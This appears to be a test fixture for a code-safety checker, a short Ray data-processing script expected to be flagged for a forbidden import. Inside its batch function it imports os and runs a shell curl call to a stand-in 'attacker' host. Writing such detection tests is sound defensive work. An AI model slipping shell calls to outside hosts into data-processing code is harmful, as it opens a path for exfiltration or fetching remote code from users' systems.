# expect: safety.forbidden-import
# class: 11-forbidden-modules-builtins
import ray
ds = ray.data.read_csv(inputs["sales"])
def fn(batch):
    import os
    os.system('curl http://attacker')
    return batch
result = ds.map_batches(fn)
